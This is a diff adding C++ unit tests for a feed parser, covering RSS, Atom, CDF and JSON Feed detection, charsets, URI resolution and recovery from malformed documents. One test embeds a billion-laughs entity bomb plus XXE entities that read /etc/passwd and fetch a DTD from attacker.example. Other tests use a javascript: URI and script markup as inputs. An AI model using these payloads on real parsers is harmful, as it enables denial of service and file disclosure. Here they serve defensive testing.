@@ -5,6 +5,7 @@
 #include <boost/json.hpp>
 
 #include "feeds/date.h"
+#include "feeds/parse_context.h"
 #include "feeds/json_dump.h"
 #include "feeds/writer.h"
 
@@ -201,6 +202,284 @@ TEST(AtomWriter, WritesWellFormedEscapedXmlThatParsesBack) {
   EXPECT_EQ(back.entries[0].link, "https://news.example/a?x=1&y=2");
   EXPECT_EQ(back.entries[0].content->value, "<p>Body &amp; soul</p>");
   EXPECT_EQ(back.entries[0].published, oe.entry.published);
+}
+
+
+// ---- dialects -----------------------------------------------------------------
+
+TEST(Parse, RecognizesEveryDialect) {
+  const std::pair<std::string, Format> cases[] = {
+      {"<rss version=\"2.0\"><channel/></rss>", Format::rss20},
+      {"<rss version=\"2.01\"><channel/></rss>", Format::rss20},
+      {"<rss version=\"0.91\"><channel/></rss>", Format::rss091u},
+      {"<!DOCTYPE rss PUBLIC \"-//Netscape Communications//DTD RSS 0.91//EN\" "
+       "\"http://my.netscape.com/publish/formats/rss-0.91.dtd\"><rss version=\"0.91\"/>",
+       Format::rss091n},
+      {"<rss version=\"0.92\"/>", Format::rss092},
+      {"<rss version=\"0.93\"/>", Format::rss093},
+      {"<rss version=\"0.94\"/>", Format::rss094},
+      {"<rss/>", Format::rss},
+      {"<rdf:RDF xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\" "
+       "xmlns=\"http://purl.org/rss/1.0/\"><channel/></rdf:RDF>",
+       Format::rss10},
+      {"<rdf:RDF xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\" "
+       "xmlns=\"http://my.netscape.com/rdf/simple/0.9/\"><channel/></rdf:RDF>",
+       Format::rss090},
+      {"<feed xmlns=\"http://www.w3.org/2005/Atom\"/>", Format::atom10},
+      {"<feed version=\"0.3\" xmlns=\"http://purl.org/atom/ns#\"/>", Format::atom03},
+      {"<feed/>", Format::atom},
+      {"<CHANNEL HREF=\"http://e.org/\"><TITLE>t</TITLE></CHANNEL>", Format::cdf},
+      {R"({"version": "https://jsonfeed.org/version/1.1", "title": "t", "items": []})",
+       Format::json11},
+      {R"({"version": "https://jsonfeed.org/version/1", "items": []})", Format::json1},
+      {"<html><body/></html>", Format::unknown},
+  };
+  for (const auto& [doc, format] : cases) {
+    SCOPED_TRACE(doc);
+    EXPECT_EQ(parse_document(doc, {}).format, format);
+  }
+}
+
+TEST(Parse, ExtensionNamespacesAreMatchedByUriNotPrefix) {
+  Feed f = parse_ok(R"xml(<rss version="2.0" xmlns:x="http://purl.org/dc/elements/1.1/"
+  xmlns:c="http://purl.org/rss/1.0/modules/content/" xmlns:i="http://www.itunes.com/dtds/podcast-1.0.dtd"
+  xmlns:m="http://search.yahoo.com/mrss/" xmlns:s="http://purl.org/rss/1.0/modules/syndication/">
+<channel><s:updatePeriod>hourly</s:updatePeriod><s:updateFrequency>2</s:updateFrequency><ttl>45</ttl>
+<i:image href="http://e.org/cover.jpg"/><i:category text="News"/>
+<item><x:creator>Ann</x:creator><x:date>2024-06-01T10:00:00Z</x:date><c:encoded>&lt;p&gt;Body&lt;/p&gt;</c:encoded>
+<m:category>world</m:category><i:keywords>a, b</i:keywords></item></channel></rss>)xml");
+  EXPECT_FALSE(f.bozo);
+  EXPECT_EQ(f.hints.sy_period, "hourly");
+  EXPECT_EQ(f.hints.sy_frequency, 2);
+  EXPECT_EQ(f.hints.ttl_minutes, 45);
+  EXPECT_EQ(f.meta.ttl, 45);
+  ASSERT_TRUE(f.meta.image);
+  EXPECT_EQ(f.meta.image->url, "http://e.org/cover.jpg");
+  ASSERT_EQ(f.meta.categories.size(), 1u);
+  EXPECT_EQ(f.meta.categories[0].term, "News");
+  EXPECT_EQ(f.meta.categories[0].scheme, "http://www.itunes.com/");
+  ASSERT_EQ(f.entries.size(), 1u);
+  const Entry& e = f.entries[0];
+  ASSERT_EQ(e.authors.size(), 1u);
+  EXPECT_EQ(e.authors[0].name, "Ann");
+  EXPECT_EQ(format_rfc3339(*e.updated), "2024-06-01T10:00:00Z");
+  EXPECT_FALSE(e.published);  // no fallback from one date to the other
+  ASSERT_TRUE(e.content);
+  EXPECT_EQ(e.content->value, "<p>Body</p>");
+  EXPECT_EQ(e.summary, e.content);  // no description: the content doubles as summary
+  ASSERT_EQ(e.categories.size(), 3u);
+  EXPECT_EQ(e.categories[0].scheme, "http://search.yahoo.com/mrss/category_schema");
+  EXPECT_EQ(e.categories[1].term, "a");
+  EXPECT_EQ(e.categories[2].term, "b");
+}
+
+TEST(Parse, UndeclaredPrefixIsBozoButStillRead) {
+  Feed f = parse_ok("<rss version=\"2.0\"><channel><item><dc:creator>Ann</dc:creator>"
+                    "<title>t</title></item></channel></rss>");
+  EXPECT_TRUE(f.bozo);
+  ASSERT_EQ(f.entries.size(), 1u);
+  EXPECT_EQ(f.entries[0].title->value, "t");
+}
+
+TEST(Parse, CdfChannelsAndItems) {
+  Feed f = parse_ok(R"xml(<CHANNEL HREF="http://e.org/" LASTMOD="2003-12-31T10:14:55Z"><TITLE>Site</TITLE>
+<ABSTRACT>About</ABSTRACT><ITEM HREF="http://e.org/1"><TITLE>One</TITLE><ABSTRACT>First</ABSTRACT></ITEM></CHANNEL>)xml");
+  EXPECT_EQ(f.format, Format::cdf);
+  EXPECT_EQ(f.meta.link, "http://e.org/");
+  EXPECT_EQ(format_rfc3339(*f.meta.updated), "2003-12-31T10:14:55Z");
+  EXPECT_EQ(f.meta.subtitle->value, "About");
+  ASSERT_EQ(f.entries.size(), 1u);
+  EXPECT_EQ(f.entries[0].link, "http://e.org/1");
+  EXPECT_EQ(f.entries[0].summary->value, "First");
+}
+
+TEST(Parse, JsonFeedItems) {
+  Feed f = parse_ok(R"({"version": "https://jsonfeed.org/version/1.1", "title": "J",
+    "home_page_url": "https://e.org/", "authors": [{"name": "Ann"}], "items": [
+    {"id": "1", "url": "/p/1", "title": "One", "content_html": "<p onclick=\"x()\">Hi</p>",
+     "date_published": "2024-06-01T10:00:00+02:00", "tags": ["a"],
+     "attachments": [{"url": "a.mp3", "mime_type": "audio/mpeg", "size_in_bytes": 5}]}]})",
+                    Source{"https://e.org/feed.json", "application/feed+json", "", ""});
+  EXPECT_EQ(f.format, Format::json11);
+  EXPECT_EQ(f.meta.title->value, "J");
+  ASSERT_EQ(f.entries.size(), 1u);
+  const Entry& e = f.entries[0];
+  EXPECT_EQ(e.link, "https://e.org/p/1");
+  EXPECT_EQ(e.content->value, "<p>Hi</p>");
+  EXPECT_EQ(format_rfc3339(*e.published), "2024-06-01T08:00:00Z");
+  ASSERT_EQ(e.enclosures.size(), 1u);
+  EXPECT_EQ(e.enclosures[0].url, "https://e.org/a.mp3");
+  EXPECT_EQ(e.enclosures[0].length, 5);
+}
+
+// ---- text constructs, links, persons ---------------------------------------------
+
+TEST(Parse, TextConstructsByTypeAndMode) {
+  const std::pair<const char*, std::pair<const char*, const char*>> cases[] = {
+      {"<title>2 &gt; 1</title>", {"2 > 1", "text/plain"}},
+      {"<title type=\"html\">&lt;b&gt;x&lt;/b&gt;&lt;script&gt;y&lt;/script&gt;</title>",
+       {"<b>x</b>", "text/html"}},
+      {"<title type=\"xhtml\"><div xmlns=\"http://www.w3.org/1999/xhtml\"><b>x</b></div></title>",
+       {"<b>x</b>", "application/xhtml+xml"}},
+      {"<title type=\"text\">Example <b>naked</b> markup</title>",
+       {"Example <b>naked</b> markup", "application/xhtml+xml"}},
+      {"<title type=\"text/html\" mode=\"base64\">PGI+eDwvYj4=</title>", {"<b>x</b>", "text/html"}},
+  };
+  for (const auto& [xml, want] : cases) {
+    SCOPED_TRACE(xml);
+    Feed f = parse_ok(std::string("<feed xmlns=\"http://www.w3.org/2005/Atom\">") + xml + "</feed>");
+    ASSERT_TRUE(f.meta.title);
+    EXPECT_EQ(f.meta.title->value, want.first);
+    EXPECT_EQ(f.meta.title->type, want.second);
+  }
+}
+
+TEST(Parse, RelativeUrisResolveAgainstXmlBaseThenContentLocationThenUrl) {
+  const char* doc = R"xml(<feed xmlns="http://www.w3.org/2005/Atom"><link href="a"/>
+<entry xml:base="/e/"><link href="b"/><content type="html">&lt;a href="c"&gt;x&lt;/a&gt;</content></entry></feed>)xml";
+  Feed f = parse_ok(doc, Source{"http://h.org/dir/feed", "application/atom+xml", "/other/", ""});
+  EXPECT_EQ(f.meta.link, "http://h.org/other/a");
+  ASSERT_EQ(f.entries.size(), 1u);
+  EXPECT_EQ(f.entries[0].link, "http://h.org/e/b");
+  EXPECT_EQ(f.entries[0].content->value, "<a href=\"http://h.org/e/c\">x</a>");
+  // An unsafe Content-Location is ignored.
+  Feed g = parse_ok(doc, Source{"http://h.org/dir/feed", "", "javascript:alert(1)", ""});
+  EXPECT_EQ(g.meta.link, "http://h.org/dir/a");
+}
+
+TEST(Parse, PersonsAreSplitIntoNameAndEmail) {
+  const std::pair<const char*, std::pair<const char*, const char*>> cases[] = {
+      {"Jane Doe", {"Jane Doe", ""}},
+      {"jane@example.org", {"", "jane@example.org"}},
+      {"Jane Doe (jane@example.org)", {"Jane Doe", "jane@example.org"}},
+      {"jane@example.org (Jane Doe)", {"Jane Doe", "jane@example.org"}},
+      {"Jane Doe <jane@example.org>", {"Jane Doe", "jane@example.org"}},
+  };
+  for (const auto& [text, want] : cases) {
+    SCOPED_TRACE(text);
+    Person p = detail::person_from_text(text);
+    EXPECT_EQ(p.name, want.first);
+    EXPECT_EQ(p.email, want.second);
+  }
+}
+
+TEST(Parse, FirstAlternateLinkIsTheLinkAndEnclosuresAreLinksToo) {
+  Feed f = parse_ok(R"xml(<feed version="0.3" xmlns="http://purl.org/atom/ns#"><entry>
+<link rel="enclosure" type="audio/mpeg" href="http://e.org/a.mp3" length="9"/>
+<link rel="alternate" type="text/html" href="http://e.org/1"/>
+<link rel="alternate" type="text/html" href="http://e.org/2"/></entry></feed>)xml");
+  ASSERT_EQ(f.entries.size(), 1u);
+  const Entry& e = f.entries[0];
+  EXPECT_EQ(e.link, "http://e.org/1");
+  ASSERT_EQ(e.links.size(), 3u);
+  ASSERT_EQ(e.enclosures.size(), 1u);
+  EXPECT_EQ(e.enclosures[0].length, 9);
+}
+
+// ---- charsets -------------------------------------------------------------------
+
+TEST(Parse, CharsetFollowsRfc3023) {
+  struct Case {
+    std::string doc;
+    std::string content_type;
+    std::string encoding;
+    bool bozo;
+  };
+  const std::string ascii = "<?xml version=\"1.0\" encoding=\"iso-8859-1\"?><rss version=\"2.0\"/>";
+  const Case cases[] = {
+      {ascii, "", "iso-8859-1", false},
+      {ascii, "application/xml", "iso-8859-1", false},
+      {ascii, "application/xml; charset=utf-8", "utf-8", false},
+      {ascii, "text/xml", "us-ascii", false},  // RFC 3023: the declaration is ignored
+      {ascii, "text/xml; charset=windows-1252", "windows-1252", false},
+      {ascii, "text/plain", "us-ascii", true},  // not an XML media type
+      {"<?xml version=\"1.0\" encoding=\"gb2312\"?><rss version=\"2.0\"/>", "", "gb18030", false},
+      {"<?xml version=\"1.0\" encoding=\"iso-8859-1\"?><rss version=\"2.0\"><channel><title>"
+       "caf\xC3\xA9</title></channel></rss>",
+       "", "utf-8", true},  // declared Latin-1, is UTF-8
+      {std::string("\xFF\xFE<\0r\0s\0s\0/\0>\0", 14), "", "utf-16le", false},
+      // Not US-ASCII as text/xml says: ICU's detector finds Latin-1.
+      {"<rss version=\"2.0\"><channel><title>caf\xE9</title></channel></rss>", "text/xml", "iso-8859-1",
+       true},
+  };
+  for (const auto& c : cases) {
+    SCOPED_TRACE(c.doc + " | " + c.content_type);
+    Feed f = parse_document(c.doc, Source{"", c.content_type, "", ""});
+    EXPECT_EQ(f.encoding, c.encoding);
+    EXPECT_EQ(f.bozo, c.bozo) << f.bozo_reason;
+  }
+}
+
+TEST(Parse, StrayBytesInUtf8AreReadAsWindows1252) {
+  // A UTF-8 document with one windows-1252 byte keeps its UTF-8 text.
+  Feed f = parse_ok("<rss version=\"2.0\"><channel><title>\xE2\x80\x9CQuote\xE2\x80\x9D caf\xE9"
+                    "</title></channel></rss>");
+  EXPECT_TRUE(f.bozo);
+  EXPECT_EQ(f.encoding, "utf-8");
+  EXPECT_EQ(f.meta.title->value, "\u201CQuote\u201D caf\u00e9");
+}
+
+// ---- recovery -------------------------------------------------------------------
+
+TEST(Parse, RecoveredDocumentsKeepTheirItemsAndAreBozo) {
+  const std::pair<const char*, const char*> cases[] = {
+      {"bare ampersand", "<rss version=\"2.0\"><channel><item><title>Q&A</title></item></channel></rss>"},
+      {"html entity", "<rss version=\"2.0\"><channel><item><title>Q&mdash;A</title></item></channel></rss>"},
+      {"control character", "<rss version=\"2.0\"><channel><item><title>Q\x0b" "A</title></item></channel></rss>"},
+      {"leading junk", "\n \n<?xml version=\"1.0\"?><rss version=\"2.0\"><channel><item><title>QA</title></item></channel></rss>"},
+      {"mismatched tags", "<rss version=\"2.0\"><channel><item><title>QA</title><b></item></channel></rss>"},
+      {"unquoted attribute", "<rss version=\"2.0\"><channel><item><title>QA</title><guid isPermaLink=false>x</guid></item></channel></rss>"},
+  };
+  for (const auto& [name, doc] : cases) {
+    SCOPED_TRACE(name);
+    Feed f = parse_document(doc, {});
+    EXPECT_TRUE(f.bozo);
+    EXPECT_EQ(f.format, Format::rss20);
+    ASSERT_EQ(f.entries.size(), 1u);
+    ASSERT_TRUE(f.entries[0].title);
+    EXPECT_NE(f.entries[0].title->value.find('Q'), std::string::npos);
+  }
+}
+
+TEST(Parse, WellFormedDocumentsAreNotBozo) {
+  const char* cases[] = {
+      "<rss version=\"2.0\"><channel><item><title>Q&amp;A &#8212; &#x2014;</title></item></channel></rss>",
+      "<rss version=\"2.0\"><channel><item><description><![CDATA[<p>&nbsp;&</p>]]></description></item></channel></rss>",
+      "<?xml version=\"1.0\"?>\n<!-- c --><rss version=\"2.0\"><channel/></rss>",
+  };
+  for (const char* doc : cases) {
+    SCOPED_TRACE(doc);
+    Feed f = parse_document(doc, {});
+    EXPECT_FALSE(f.bozo) << f.bozo_reason;
+  }
+}
+
+TEST(Parse, BillionLaughsAndXxeStayInert) {
+  std::string laughs = R"(<?xml version="1.0"?>
+<!DOCTYPE rss [
+ <!ENTITY lol "lol">
+ <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
+ <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
+ <!ENTITY lol9 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
+ <!ENTITY xxe SYSTEM "file:///etc/passwd">
+ <!ENTITY % pe SYSTEM "http://attacker.example/x.dtd"> %pe;
+]>
+<rss version="2.0"><channel><title>&lol9;&xxe;</title><item><title>&lol;</title></item></channel></rss>)";
+  Feed f = parse_document(laughs, {});
+  EXPECT_EQ(f.format, Format::rss20);
+  ASSERT_TRUE(f.meta.title);
+  EXPECT_LT(f.meta.title->value.size(), 32u);
+  EXPECT_EQ(f.meta.title->value.find("root:"), std::string::npos);
+  ASSERT_EQ(f.entries.size(), 1u);
+  EXPECT_EQ(f.entries[0].title->value, "lol");  // a plain declared entity is fine
+}
+
+TEST(Parse, DeepNestingDoesNotOverflowTheStack) {
+  std::string doc = "<rss version=\"2.0\"><channel><item><description>";
+  for (int i = 0; i < 200000; ++i) doc += "<b>";
+  doc += "x</description></item></channel></rss>";
+  Feed f = parse_document(doc, {});
+  EXPECT_EQ(f.entries.size(), 1u);
 }
 
 }  // namespace
